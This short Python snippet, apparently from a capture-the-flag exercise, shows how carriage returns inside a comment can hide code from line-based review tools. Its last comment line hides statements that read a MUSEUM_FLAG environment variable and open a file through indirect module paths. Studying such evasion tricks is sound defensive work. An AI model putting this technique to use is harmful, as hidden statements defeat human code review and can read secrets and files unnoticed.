# A carriage return in a comment: to Python it ends the line, to many tools it does not. What
# follows it looks like part of the comment, and runs.
import random

# Below is one comment of three parts, with a carriage return between them. A tool that splits
# lines at line feeds only sees a line that begins with #, and takes no further look.
# This line does nothing.print(random._os.environ["MUSEUM_FLAG"])print(random._os.sys.modules["builtins"].open(outside["file"]).read())
